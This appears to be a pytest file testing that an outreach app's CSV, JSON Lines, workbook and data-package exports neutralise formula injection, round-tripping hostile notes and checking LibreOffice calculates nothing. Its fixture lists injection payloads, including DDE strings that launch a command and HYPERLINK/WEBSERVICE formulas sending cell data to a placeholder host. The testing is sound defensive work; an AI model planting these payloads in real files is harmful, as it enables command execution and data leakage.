"""The same rows in every format, read back by programs that are not ours; nothing that somebody
typed becomes a formula, and nothing is spoilt by that."""

import io
import json
import shutil
import subprocess
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from frictionless import Package, system
from openpyxl.utils.escape import unescape
from sqlalchemy import insert

from outreach.contacts.models import Contact
from outreach.core.database import transaction
from outreach.core.extensions import db
from outreach.core.formulas import FORMULA_SIGNS
from outreach.core.vocabulary import FOR_PARTNERS, Format, Outcome, SaidBy, Shared, Stance
from outreach.exports.contracts.contract import Kind
from outreach.exports.contracts.registry import CONTRACTS
from tests.exports.scenes import note, partner, rows, table, taken
from tests.scenes import ABBOTT, CORBYN, logged

WIDE = str.maketrans("=+-@", "＝＋－＠")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    '=HYPERLINK("http://example.org?x="&A1,"Look")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "=IMPORTXML(CONCAT(A1),0)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "=1+1\u200b",
)
OTHERS = (
    'He said "no", twice',
    "one, two; three | four",
    "first line\nsecond line\r\nthird",
    "O'Brien & Sons <b>",
    "’Apostrophe, the curly one",
    "'an apostrophe first",
    "🏳️‍🌈 with an emoji",
    "שלום مرحبا",
    "\u202eright to left",
    "\\backslash \\n \\u0041",
    "007",
    "1e5",
    "2026-11-03",
    "true",
    "null",
    " spaces around ",
    "–",
    "\x07bell",
)
HOSTILE = (*FORMULAS, *(text.translate(WIDE) for text in FORMULAS), *OTHERS)


def unescaped(text):
    """What docs/exports.md tells a program to do."""
    return text.removeprefix("'")


@pytest.fixture
def hostile(app, asha):
    """A call for each of those texts, in its note."""
    first = logged(asha, Outcome.NO_ANSWER)
    with transaction():
        for number, text in enumerate(HOSTILE):
            values = {
                column.name: getattr(first, column.name)
                for column in Contact.__table__.columns
                if column.name != "id"
            }
            db.session.execute(insert(Contact).values(**values | {"note": text, "id": number + 9}))
    note(first.id, "plain")
    return ["plain", *HOSTILE]


def notes(found):
    return [row["note"] for row in found]


def test_csv_gives_back_what_was_typed(hostile):
    body = taken(Shared.CONTACTS_FULL, Format.CSV)
    assert body.startswith(b"\xef\xbb\xbf")
    found = notes(table(body.decode()))
    assert [unescaped(text) for text in found] == hostile
    for text in found:
        assert text.lstrip(" \t\r\n\v\f\u00a0\u200b\u2060\u3000\ufeff")[:1] not in set(
            FORMULA_SIGNS
        ) - {"'"}, text


def test_numbers_are_not_touched(app, asha):
    logged(asha, Outcome.NO_ANSWER)
    (line,) = taken(Shared.CONTACTS, Format.CSV).decode().splitlines()[1:]
    assert line.startswith(f'"{rows(Shared.CONTACTS)[0]["contact_id"]}","2026-11-03",{ABBOTT},"')


def test_json_lines_give_back_what_was_typed(hostile):
    lines = taken(Shared.CONTACTS_FULL, Format.JSONL).decode().split("\n")
    assert lines.pop() == ""
    assert notes(json.loads(line) for line in lines) == hostile


def sheet_of(body, name):
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book[name]
    head, *found = sheet.iter_rows(values_only=True)
    return book, [dict(zip(head, row, strict=True)) for row in found]


def test_a_workbook_gives_back_what_was_typed(hostile):
    book, found = sheet_of(taken(Shared.CONTACTS_FULL, Format.XLSX), "contacts_full")
    # What XML cannot hold is written as _x0007_, which Excel shows as what it stands for.
    assert [unescape(text) for text in notes(found)] == hostile
    kinds = {cell.data_type for row in book["contacts_full"].iter_rows() for cell in row}
    assert "f" not in kinds


def test_a_workbook_can_be_worked_with(app, asha):
    logged(asha, Outcome.SPOKE_STAFF, stance=Stance.SUPPORTIVE, said_by=SaidBy.STAFF)
    book, found = sheet_of(taken(Shared.CONTACTS, Format.XLSX), "contacts")
    assert found[0]["date"].date() == date(2026, 11, 3)
    assert found[0]["removed"] is False
    sheet = book["contacts"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:L2"
    assert sheet.column_dimensions["D"].width == pytest.approx(30, abs=1)
    told = [row[0] for row in book["what it means"].iter_rows(values_only=True)]
    assert {column.name for column in CONTRACTS[Shared.CONTACTS].columns} <= set(told)


def as_json(contract, found):
    """Rows that a reader of tables gives, as JSON has them."""
    for row in found:
        for column in contract.columns:
            cell = row[column.name]
            if cell == "":
                cell = None
            elif isinstance(cell, datetime | date):
                cell = cell.isoformat()[:10]
            elif column.kind is Kind.TRUTH and isinstance(cell, str):
                cell = {"true": True, "false": False}[cell]
            elif column.kind is Kind.NUMBER and isinstance(cell, str):
                cell = int(cell)
            row[column.name] = cell
        yield row


@pytest.mark.parametrize("name", Shared)
def test_the_same_rows_in_every_format(app, asha, ben, name):
    logged(asha, Outcome.SPOKE_STAFF, stance=Stance.UNCLEAR, said_by=SaidBy.STAFF)
    logged(ben, Outcome.NO_ANSWER, CORBYN, note="Rang for long")
    whose = partner() if name in FOR_PARTNERS else None
    contract, expected = CONTRACTS[name], rows(name, whose)
    assert expected
    as_csv = table(taken(name, Format.CSV, whose).decode())
    assert list(as_json(contract, as_csv)) == expected
    lines = taken(name, Format.JSONL, whose).decode().splitlines()
    assert [json.loads(line) for line in lines] == expected
    _, in_sheet = sheet_of(taken(name, Format.XLSX, whose), name.value)
    assert list(as_json(contract, in_sheet)) == expected
    zipped = zipfile.ZipFile(io.BytesIO(taken(name, Format.PACKAGE, whose)))
    in_zip = table(zipped.read(f"{name.value}.csv").decode())
    assert list(as_json(contract, in_zip)) == expected


@pytest.mark.parametrize("name", Shared)
@pytest.mark.parametrize("since", [None, 0])
def test_a_package_is_accepted_by_frictionless(app, asha, tmp_path, name, since):
    logged(asha, Outcome.SPOKE_STAFF, stance=Stance.UNCLEAR, said_by=SaidBy.STAFF, note='a "b", c')
    wanted_since = since if CONTRACTS[name].changes else None
    body = taken(name, Format.PACKAGE, since=wanted_since)
    with zipfile.ZipFile(io.BytesIO(body)) as zipped:
        zipped.extractall(tmp_path)
    with system.use_context(trusted=True):
        package = Package(str(tmp_path / "datapackage.json"))
        report = package.validate()
        assert report.valid, report.flatten(["type", "message"])
        (resource,) = package.resources
        assert resource.hash.startswith("sha256:")
        assert len(resource.read_rows()) == len(rows(name, since=wanted_since))


def test_a_package_that_was_changed_is_not_accepted(app, asha, tmp_path):
    logged(asha, Outcome.NO_ANSWER)
    with zipfile.ZipFile(io.BytesIO(taken(Shared.CONTACTS, Format.PACKAGE))) as zipped:
        zipped.extractall(tmp_path)
    file = tmp_path / "contacts.csv"
    file.write_bytes(file.read_bytes().replace(b'"out"', b'"off"'))
    with system.use_context(trusted=True):
        assert not Package(str(tmp_path / "datapackage.json")).validate().valid


@pytest.mark.parametrize("store", ["sqlite"], indirect=True)
@pytest.mark.parametrize("form", [Format.XLSX, Format.CSV])
def test_libreoffice_calculates_nothing(hostile, tmp_path, form):
    """Opened as a person would open it, and written again as plain text: a formula would show what
    comes out of it."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "LibreOffice is missing: ./script/test installs it"
    file = tmp_path / f"contacts.{form.value}"
    file.write_bytes(taken(Shared.CONTACTS_FULL, form))
    to = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
    # Commas, UTF-8, and every cell looked at as a spreadsheet does with what is typed in.
    read = ["--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true"]
    command = [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    command += [*(read if form is Format.CSV else ()), "--convert-to", to, "--outdir"]
    subprocess.run([*command, tmp_path / "out", file], check=True, capture_output=True, timeout=120)
    (made,) = (tmp_path / "out").iterdir()
    found = notes(table(made.read_text("utf-8")))
    formulas = {*FORMULAS, *(text.translate(WIDE) for text in FORMULAS)}
    assert len(found) == len(hostile)
    for text, typed in zip(found, hostile, strict=True):
        shown = unescaped(text) if form is Format.CSV else text
        # It takes 007 for a number, and has its own ways with ends of lines: that is not asked.
        assert shown.split() == typed.split() or typed not in formulas, text
